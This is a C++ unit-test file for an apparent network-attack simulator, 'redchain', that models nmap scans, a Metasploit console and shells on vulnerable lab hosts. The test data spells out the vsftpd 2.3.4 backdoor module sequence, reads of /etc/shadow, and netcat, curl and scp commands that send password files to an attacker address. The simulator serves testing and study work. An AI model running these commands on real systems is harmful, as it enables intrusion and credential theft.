#include <gtest/gtest.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "redchain/error.hpp"
#include "redchain/netsim.hpp"
#include "redchain/text.hpp"

using namespace redchain;

namespace {

const std::vector<std::string> kFig3{"use exploit/unix/ftp/vsftpd_234_backdoor", "set RHOSTS 172.16.2.3",
                                     "set payload cmd/unix/interact", "exploit"};

SimEnv env_of(NetworkModel m) { return SimEnv{std::make_shared<const NetworkModel>(std::move(m)), "172.16.2.2"}; }

std::string slurp(const std::filesystem::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

bool contains(const std::string& hay, const std::string& needle) { return hay.find(needle) != std::string::npos; }

// independent predicate: product case-insensitively equal, version exact or prefix-with-star
bool oracle_match(const ExploitEntry& e, const Service& s) {
    if (text::to_lower(e.product) != text::to_lower(s.product)) return false;
    if (e.version.ends_with("*")) return s.version.rfind(e.version.substr(0, e.version.size() - 1), 0) == 0;
    return e.version == s.version;
}

std::vector<NetworkModel> shipped_models() {
    std::vector<NetworkModel> out;
    for (const auto& name : builtin_network_names()) out.push_back(builtin_network(name));
    for (const auto& entry : std::filesystem::directory_iterator(std::filesystem::path(REDCHAIN_DATA_DIR) / "scenarios")) {
        if (entry.path().extension() == ".json") out.push_back(load_network(entry.path()));
    }
    return out;
}

int count_kind(const std::vector<SimCommandResult>& rs, SessionEventKind k) {
    int n = 0;
    for (const auto& r : rs) {
        for (const auto& e : r.events) n += e.kind == k;
    }
    return n;
}

}  // namespace

TEST(LoadNetwork, SingleServiceVsftpd) {
    auto m = builtin_network("single-service:vsftpd");
    ASSERT_EQ(m.hosts.size(), 1u);
    EXPECT_EQ(m.hosts[0].ip, "172.16.2.3");
    ASSERT_EQ(m.hosts[0].services.size(), 1u);
    EXPECT_EQ(m.hosts[0].services[0].port, 21);
    EXPECT_EQ(m.name, "vsftpd 2.3.4");
}

TEST(LoadNetwork, NoPortsVariant) {
    auto m = builtin_network("no-ports");
    ASSERT_EQ(m.hosts.size(), 1u);
    EXPECT_TRUE(m.hosts[0].services.empty());
}

TEST(LoadNetwork, MetasploitableLikeHasTenServices) {
    auto m = builtin_network("metasploitable-like");
    ASSERT_EQ(m.hosts.size(), 1u);
    EXPECT_EQ(m.hosts[0].services.size(), 10u);
    EXPECT_EQ(single_service_keys().size(), 10u);
}

TEST(LoadNetwork, OrphansAreFlaggedNotFatal) {
    auto m = builtin_network("metasploitable-like");
    EXPECT_EQ(m.orphan_vulnerabilities,
              (std::vector<std::string>{"ssh-weak-password", "telnet-default-login", "web-app-flaws"}));
}

TEST(LoadNetwork, JsonRoundTrip) {
    for (const auto& name : builtin_network_names()) {
        auto m = builtin_network(name);
        EXPECT_EQ(parse_network(network_to_json(m), name), m) << name;
    }
}

TEST(LoadNetwork, ShippedFilesEqualBuiltins) {
    auto dir = std::filesystem::path(REDCHAIN_DATA_DIR) / "scenarios";
    int checked = 0;
    for (const auto& name : builtin_network_names()) {
        std::string file = name;
        for (auto& c : file) c = c == ':' ? '-' : c;
        auto path = dir / (file + ".json");
        ASSERT_TRUE(std::filesystem::exists(path)) << path;
        EXPECT_EQ(slurp(path), network_to_json(builtin_network(name))) << path;
        ++checked;
    }
    EXPECT_EQ(checked, 12);
}

TEST(LoadNetwork, DuplicateIpRejected) {
    auto m = builtin_network("single-service:vsftpd");
    Host twin = m.hosts[0];
    twin.name = "target2";
    m.hosts.push_back(twin);
    try {
        parse_network(network_to_json(m), "dup.json");
        FAIL();
    } catch (const LoadError& e) {
        EXPECT_TRUE(contains(e.what(), "duplicate IP 172.16.2.3")) << e.what();
    }
}

TEST(LoadNetwork, ValidationErrorsNameTheEntity) {
    auto expect_error = [](NetworkModel m, const std::string& needle) {
        try {
            validate_network(m, "t");
            ADD_FAILURE() << "accepted; wanted " << needle;
        } catch (const LoadError& e) {
            EXPECT_TRUE(contains(e.what(), needle)) << e.what();
        }
    };
    auto base = builtin_network("single-service:vsftpd");
    {
        auto m = base;
        m.hosts[0].services.push_back(m.hosts[0].services[0]);
        expect_error(m, "duplicate port 21");
    }
    {
        auto m = base;
        m.exploits[0].vulnerability = "no-such-vuln";
        expect_error(m, "exploit/unix/ftp/vsftpd_234_backdoor");
    }
    {
        auto m = base;
        m.hosts[0].services[0].vulnerabilities = {"ghost"};
        expect_error(m, "unknown vulnerability 'ghost'");
    }
    {
        auto m = base;
        auto e = m.exploits[0];
        e.module = "exploit/unix/ftp/copycat";
        m.exploits.push_back(e);
        expect_error(m, "vsftpd-234-backdoor");
    }
    {
        auto m = base;
        m.hosts[0].mac = "zz";
        expect_error(m, "invalid MAC");
    }
}

TEST(LoadNetwork, JsonSyntaxErrorHasLine) {
    try {
        parse_network("{\n\"schema\": \"redchain.scenario/1\",\n  oops\n}", "bad.json");
        FAIL();
    } catch (const LoadError& e) {
        EXPECT_EQ(e.line(), 3u);
    }
    EXPECT_THROW(parse_network("{\"schema\":\"other\"}", "x"), LoadError);
    EXPECT_THROW(builtin_network("single-service:gopher"), LoadError);
}

TEST(SimScan, VsftpdHost) {
    auto m = builtin_network("single-service:vsftpd");
    std::string out = sim_scan(m, "nmap -sV 172.16.2.3");
    EXPECT_TRUE(contains(out, "21/tcp open ftp vsftpd 2.3.4"));
    EXPECT_TRUE(contains(out, "02:42:AC:10:02:03"));
    EXPECT_TRUE(contains(out, "Nmap scan report for target1 (172.16.2.3)"));
    EXPECT_TRUE(contains(out, "Host is up (0.0000040s latency)."));
    EXPECT_TRUE(contains(out, "Nmap done: 1 IP address (1 host up) scanned in 153.07 seconds"));
    EXPECT_EQ(out, sim_scan(m, "nmap -sV 172.16.2.3"));
}

TEST(SimScan, NoPortsHost) {
    auto m = builtin_network("no-ports");
    std::string out = sim_scan(m, "nmap -sV 172.16.2.3");
    EXPECT_TRUE(contains(out, "All 1000 scanned ports on target1 (172.16.2.3) are in ignored states."));
    EXPECT_FALSE(contains(out, "/tcp open"));
    EXPECT_TRUE(contains(out, "(1 host up)"));
}

TEST(SimScan, AbsentTarget) {
    auto m = builtin_network("metasploitable-like");
    std::string out = sim_scan(m, "nmap -sV 172.16.2.99");
    EXPECT_TRUE(contains(out, "Host seems down"));
    EXPECT_TRUE(contains(out, "1 IP address (0 hosts up)"));
    EXPECT_TRUE(contains(sim_scan(m, "nmap"), "0 hosts up"));
}

TEST(SimScan, PortFilterAndSubnet) {
    auto m = builtin_network("metasploitable-like");
    std::string out = sim_scan(m, "nmap -sV -p 21,22 172.16.2.0/24");
    EXPECT_TRUE(contains(out, "21/tcp open ftp vsftpd 2.3.4"));
    EXPECT_TRUE(contains(out, "22/tcp open ssh OpenSSH 4.7p1"));
    EXPECT_FALSE(contains(out, "3306/tcp"));
    EXPECT_TRUE(contains(out, "256 IP addresses (1 host up)"));
    EXPECT_TRUE(contains(sim_scan(m, "nmap 172.16.2.3"), "21/tcp open ftp\n"));
    EXPECT_TRUE(is_scan_command("sudo nmap -sS 172.16.2.3"));
    EXPECT_FALSE(is_scan_command("cat nmap.txt"));
}

TEST(SimConsole, Fig3OpensRootSession) {
    auto env = env_of(builtin_network("single-service:vsftpd"));
    auto r = sim_console(env, {}, kFig3);
    EXPECT_TRUE(contains(r.output, "session 1 opened")) << r.output;
    ASSERT_EQ(r.state.sessions.count(1), 1u);
    EXPECT_EQ(r.state.sessions.at(1).privilege, "root");
    EXPECT_EQ(r.state.mode, ConsoleMode::Shell);
    ASSERT_EQ(r.results.size(), 4u);
    EXPECT_EQ(r.results[3].events.at(0).kind, SessionEventKind::Opened);
    EXPECT_EQ(r.results[3].events.at(0).session_id, 1);
}

TEST(SimConsole, Fig3AgainstOtherHostsNeverOpens) {
    for (const auto& key : single_service_keys()) {
        if (key == "vsftpd") continue;
        auto env = env_of(builtin_network("single-service:" + key));
        auto r = sim_console(env, {}, kFig3);
        EXPECT_EQ(count_kind(r.results, SessionEventKind::Opened), 0) << key;
        EXPECT_TRUE(r.state.sessions.empty()) << key;
        EXPECT_NE(r.results.back().failure, CommandFailure::None) << key;
    }
    auto env = env_of(builtin_network("no-ports"));
    auto r = sim_console(env, {}, kFig3);
    EXPECT_TRUE(contains(r.output, "no session was created"));
}

TEST(SimConsole, WrongDirectoryIsSyntaxFailure) {
    auto env = env_of(builtin_network("single-service:openssh"));
    SessionState st;
    auto r = sim_command(env, st, "use exploit/unix/ssh/sshexec");
    EXPECT_TRUE(contains(r.output, "Failed to load module"));
    EXPECT_EQ(r.failure, CommandFailure::Syntax);
    auto h = sim_command(env, st, "use exploit/unix/ssh/totally_made_up");
    EXPECT_TRUE(contains(h.output, "Failed to load module"));
    EXPECT_EQ(h.failure, CommandFailure::UnknownModule);
}

TEST(SimConsole, ErrorsAreInBand) {
    auto env = env_of(builtin_network("single-service:vsftpd"));
    SessionState st;
    auto set_first = sim_command(env, st, "set RHOSTS 172.16.2.3");
    EXPECT_NE(set_first.failure, CommandFailure::None);
    EXPECT_NE(set_first.output, "");
    EXPECT_EQ(sim_command(env, st, "exploit").failure, CommandFailure::Syntax);
    EXPECT_EQ(sim_command(env, st, "sessions -i 4").failure, CommandFailure::Runtime);
    sim_command(env, st, "use exploit/unix/ftp/vsftpd_234_backdoor");
    auto missing = sim_command(env, st, "exploit");
    EXPECT_TRUE(contains(missing.output, "RHOSTS"));
    sim_command(env, st, "set RHOSTS 172.16.2.3");
    auto bad_payload = sim_command(env, st, "set payload cmd/unix/reverse");
    EXPECT_EQ(bad_payload.failure, CommandFailure::None);
    EXPECT_EQ(sim_command(env, st, "exploit").failure, CommandFailure::Syntax);
}

TEST(SimConsole, ModuleChangeClearsOptions) {
    auto env = env_of(builtin_network("metasploitable-like"));
    SessionState st;
    sim_command(env, st, "use exploit/unix/ftp/vsftpd_234_backdoor");
    sim_command(env, st, "set RHOSTS 172.16.2.3");
    EXPECT_EQ(st.options.at("RHOSTS"), "172.16.2.3");
    sim_command(env, st, "use exploit/multi/samba/usermap_script");
    EXPECT_TRUE(st.options.empty());
    sim_command(env, st, "setg RHOSTS 172.16.2.3");
    sim_command(env, st, "use exploit/unix/ftp/vsftpd_234_backdoor");
    EXPECT_TRUE(contains(sim_command(env, st, "run").output, "session 1 opened"));
}

TEST(SimConsole, SessionIdsAreMonotonic) {
    auto env = env_of(builtin_network("metasploitable-like"));
    SessionState st;
    for (int i = 1; i <= 3; ++i) {
        for (const auto& c : kFig3) sim_command(env, st, c);
        EXPECT_EQ(st.active_session, i);
        EXPECT_EQ(sim_command(env, st, "background").failure, CommandFailure::None);
    }
    auto closed = sim_command(env, st, "sessions -k 2");
    ASSERT_EQ(closed.events.size(), 1u);
    EXPECT_EQ(closed.events[0].kind, SessionEventKind::Closed);
    for (const auto& c : kFig3) sim_command(env, st, c);
    EXPECT_EQ(st.active_session, 4);
}

TEST(SimConsole, CredentialLeak) {
    auto env = env_of(builtin_network("single-service:mysql"));
    auto r = sim_console(env, {}, {"use auxiliary/scanner/mysql/mysql_login", "set RHOSTS 172.16.2.3", "run"});
    EXPECT_EQ(count_kind(r.results, SessionEventKind::CredentialLeak), 1);
    EXPECT_TRUE(r.state.sessions.empty());
    EXPECT_EQ(r.state.mode, ConsoleMode::Console);
}

TEST(SimConsole, MsfconsoleExecuteFlag) {
    auto env = env_of(builtin_network("single-service:vsftpd"));
    SessionState st;
    auto r = sim_command(env, st,
                         "msfconsole -q -x \"use exploit/unix/ftp/vsftpd_234_backdoor; set RHOSTS 172.16.2.3; exploit\"");
    EXPECT_TRUE(contains(r.output, "session 1 opened"));
    EXPECT_EQ(st.mode, ConsoleMode::Shell);
}

TEST(SimShell, RootReadsShadow) {
    auto m = builtin_network("single-service:vsftpd");
    SimSession root{1, "172.16.2.3", "root", "root", "/", "shell", true};
    auto r = sim_shell_read(m, root, "/etc/shadow");
    EXPECT_EQ(r.failure, CommandFailure::None);
    EXPECT_TRUE(r.output.starts_with("root:$1$"));
    SimSession user{2, "172.16.2.3", "user", "postgres", "/var/lib/postgresql", "shell", true};
    auto denied = sim_shell_read(m, user, "/etc/shadow");
    EXPECT_TRUE(contains(denied.output, "Permission denied"));
    EXPECT_EQ(denied.failure, CommandFailure::Runtime);
    EXPECT_EQ(sim_shell_read(m, user, "/etc/passwd").failure, CommandFailure::None);
    auto ph = sim_shell_read(m, root, "/home/<USERNAME>/");
    EXPECT_TRUE(contains(ph.output, "No such file or directory"));
}

TEST(SimShell, ShadowReadableIffRootExhaustive) {
    for (const auto& m : shipped_models()) {
        for (const auto& h : m.hosts) {
            for (const auto& f : h.files) {
                for (const char* priv : {"root", "user"}) {
                    SimSession s{1, h.ip, priv, std::string(priv) == "root" ? "root" : "msfadmin", "/", "shell", true};
                    auto r = sim_shell_read(m, s, f.path);
                    bool readable = r.failure == CommandFailure::None;
                    bool want = std::string(priv) == "root" || (!f.root_only && !f.path.starts_with("/root/"));
                    EXPECT_EQ(readable, want) << m.name << " " << f.path << " " << priv;
                }
            }
        }
    }
}

TEST(SimShell, DemoExfilSequence) {
    auto env = env_of(builtin_network("metasploitable-like"));
    auto st = sim_console(env, {}, kFig3).state;
    auto r = sim_console(env, st, {"cat /etc/passwd", "cat /etc/shadow", "tar -czvf /tmp/exfil.tar.gz /etc/passwd /etc/shadow",
                                   "ls /tmp", "whoami", "id"});
    EXPECT_TRUE(contains(r.results[0].output, "root:x:0:0:root:/root:/bin/bash"));
    EXPECT_TRUE(r.results[1].output.starts_with("root:$1$"));
    EXPECT_EQ(r.results[2].output, "tar: Removing leading `/' from member names\netc/passwd\netc/shadow");
    EXPECT_EQ(r.results[3].output, "exfil.tar.gz");
    EXPECT_EQ(r.results[4].output, "root");
    EXPECT_EQ(r.results[5].output, "uid=0(root) gid=0(root)");
}

TEST(SimShell, ExfilChannelRefusedUnlessDeclared) {
    auto m = builtin_network("metasploitable-like");
    auto env = env_of(m);
    auto st = sim_console(env, {}, kFig3).state;
    for (const std::string cmd : {"ftp 172.16.2.2", "nc 172.16.2.2 4444 < /etc/shadow", "cat /etc/shadow | nc 172.16.2.2 4444",
                                  "curl -T /etc/passwd ftp://172.16.2.2/", "scp /etc/shadow root@172.16.2.2:/tmp/"}) {
        SessionState s = st;
        auto r = sim_command(env, s, cmd);
        EXPECT_TRUE(contains(r.output, "Connection refused")) << cmd << "\n" << r.output;
        EXPECT_EQ(r.failure, CommandFailure::Runtime) << cmd;
    }
    m.exfil_listeners.push_back({"172.16.2.2", 4444, "tcp"});
    auto env2 = env_of(m);
    SessionState s = st;
    auto r = sim_command(env2, s, "nc 172.16.2.2 4444 < /etc/shadow");
    EXPECT_EQ(r.failure, CommandFailure::None) << r.output;
}

TEST(SimShell, UnknownCommandAndExit) {
    auto env = env_of(builtin_network("single-service:vsftpd"));
    auto st = sim_console(env, {}, kFig3).state;
    auto r = sim_command(env, st, "frobnicate --now");
    EXPECT_EQ(r.output, "sh: 1: frobnicate: not found");
    EXPECT_EQ(r.failure, CommandFailure::UnknownCommand);
    auto e = sim_command(env, st, "exit");
    ASSERT_EQ(e.events.size(), 1u);
    EXPECT_EQ(e.events[0].kind, SessionEventKind::Closed);
    EXPECT_EQ(st.mode, ConsoleMode::Console);
    EXPECT_EQ(sim_command(env, st, "sessions -i 1").failure, CommandFailure::Runtime);
}

TEST(SimShell, Purity) {
    auto env = env_of(builtin_network("metasploitable-like"));
    std::vector<std::string> cmds = kFig3;
    for (const char* c : {"cd /root", "ls -la", "cat .bash_history", "tar cf /tmp/a.tar /etc", "cat /home/<USER>/x",
                          "exit", "nmap -sV 172.16.2.3"}) {
        cmds.push_back(c);
    }
    auto a = sim_console(env, {}, cmds);
    auto b = sim_console(env, {}, cmds);
    EXPECT_EQ(a.output, b.output);
    EXPECT_EQ(a.state, b.state);
}

// Every (module, service) pair across the shipped scenarios: a session opens
// exactly when the module's predicate matches and its effect grants a shell.
TEST(SimSoundness, BruteForceModuleServicePairs) {
    auto t0 = std::chrono::steady_clock::now();
    std::size_t pairs = 0;
    for (const auto& m : shipped_models()) {
        auto env = env_of(m);
        for (const auto& e : m.exploits) {
            for (const auto& h : m.hosts) {
                for (const auto& s : h.services) {
                    auto r = sim_console(env, {}, {"use " + e.module, "set RHOSTS " + h.ip,
                                                   "set RPORT " + std::to_string(s.port), "run"});
                    bool match = oracle_match(e, s);
                    bool shell = e.effect == ExploitEffect::RootShell || e.effect == ExploitEffect::UserShell;
                    EXPECT_EQ(count_kind(r.results, SessionEventKind::Opened), match && shell ? 1 : 0)
                        << m.name << " " << e.module << " vs " << s.product << " " << s.version;
                    EXPECT_EQ(count_kind(r.results, SessionEventKind::CredentialLeak),
                              match && e.effect == ExploitEffect::CredentialLeak ? 1 : 0)
                        << e.module << " vs " << s.product;
                    if (match && shell) {
                        EXPECT_EQ(r.state.sessions.begin()->second.privilege,
                                  e.effect == ExploitEffect::RootShell ? "root" : "user");
                    }
                    ++pairs;
                }
            }
        }
    }
    EXPECT_GT(pairs, 200u);
    EXPECT_LT(std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count(), 5.0);
}

TEST(SimLocal, ConsoleVerbsStartConsoleAndClientsRefuse) {
    auto env = env_of(builtin_network("single-service:vsftpd"));
    SessionState st;
    auto r = sim_command(env, st, "search vsftpd");
    EXPECT_TRUE(contains(r.output, "exploit/unix/ftp/vsftpd_234_backdoor"));
    EXPECT_EQ(st.mode, ConsoleMode::Console);
    sim_command(env, st, "exit");
    EXPECT_EQ(st.mode, ConsoleMode::Local);
    EXPECT_TRUE(contains(sim_command(env, st, "ssh root@172.16.2.3").output, "Connection refused"));
    EXPECT_TRUE(contains(sim_command(env, st, "ftp 172.16.2.3").output, "Login failed"));
    EXPECT_EQ(sim_command(env, st, "hydra -l root 172.16.2.3 ssh").failure, CommandFailure::UnknownCommand);
}
